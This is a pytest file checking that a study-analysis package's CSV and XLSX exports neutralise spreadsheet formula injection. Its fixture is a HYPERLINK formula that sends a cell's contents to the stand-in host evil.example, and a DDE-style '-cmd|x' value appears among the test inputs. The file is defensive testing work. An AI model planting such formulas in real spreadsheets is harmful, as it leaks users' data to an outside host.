"""Exports are spreadsheet-safe (no text cell runs as a formula)."""

from __future__ import annotations

import io

import numpy as np
import openpyxl
import pandas as pd
import pytest
from study_factory import make_study

from studies.analysis import analyze_scored
from studies.analysis.exports import write_outputs, xlsx_bytes
from studies.decisions import DecisionStore, export_decisions
from studies.package import decisions_path, load_manifest
from studies.spreadsheet_safe import safe_cell, safe_frame

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-cmd|x"])
def test_formula_text_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-0.5", "+3", "1e-3", "plain text", "", 5, -1.5, None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_safe_frame_leaves_numeric_columns_numeric():
    df = pd.DataFrame({"x": [-1.0, 2.0], "why": [ATTACK, "ok"]})
    out = safe_frame(df)
    assert out["x"].tolist() == [-1.0, 2.0] and out["why"].tolist() == ["'" + ATTACK, "ok"]
    assert df["why"].iloc[0] == ATTACK  # the input is not changed


def test_xlsx_cells_are_text_not_formulas():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"t": pd.DataFrame({"why": [ATTACK]})})))
    cell = book["t"]["A2"]
    assert cell.data_type == "s" and cell.value == "'" + ATTACK


def test_a_flag_reason_reaches_decisions_long_csv_neutralised(tmp_path):
    rng = np.random.default_rng(0)
    n = 12
    key = pd.DataFrame({"pair_id": [f"P{i:02d}" for i in range(n)],
                        "progressor": [f"A{i:02d}" for i in range(n)],
                        "non_progressor": [f"B{i:02d}" for i in range(n)],
                        "stratum": "likely", "jsn_mm": -0.7})
    rows = []
    for r in ("r1", "r2"):
        for i in range(n):
            right = bool(rng.random() < 0.7)
            rows.append({"reader": r, "pair_id": f"P{i:02d}", "condition": "unaided", "mode": "unaided",
                         "phase": "final", "case_left": f"A{i:02d}", "case_right": f"B{i:02d}",
                         "chosen_case": f"A{i:02d}" if right else f"B{i:02d}", "confidence": pd.NA,
                         "active_seconds": 3.0, "flagged": i == 0, "flag_reason": ATTACK if i == 0 else "",
                         "correct": float(right)})
    scored = pd.DataFrame(rows).merge(key, on="pair_id")
    scores = pd.Series(rng.random(2 * n), index=[*key["progressor"], *key["non_progressor"]])
    results = analyze_scored(scored, key, scores, n_boot=50)
    write_outputs(results, tmp_path / "out", pdf=False)
    text = (tmp_path / "out" / "decisions_long.csv").read_text()
    assert "flag_reason" in text.splitlines()[0] and "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text and '"=HYPERLINK' not in text


def test_export_decisions_neutralises_text(tmp_path):
    tiny = make_study(tmp_path, n_pairs=2, with_images=False)
    manifest = load_manifest(tiny.study)
    path = decisions_path(tiny.study, "r1")
    with DecisionStore.open(path, "r1", manifest) as store:
        store.session_start("unaided")
        for op in store.order:
            store.commit_decision(op.pair_id, op.left_case, started_at=0.0, decided_at=1.0, active_seconds=1.0)
        store.flag(store.order[0].pair_id, ATTACK)
    table = export_decisions([path], tmp_path / "d.csv")
    assert len(table) == 2
    for line in (tmp_path / "d.csv").read_text().splitlines():
        assert not any(cell.startswith(("=", "+", "@")) for cell in line.split(","))
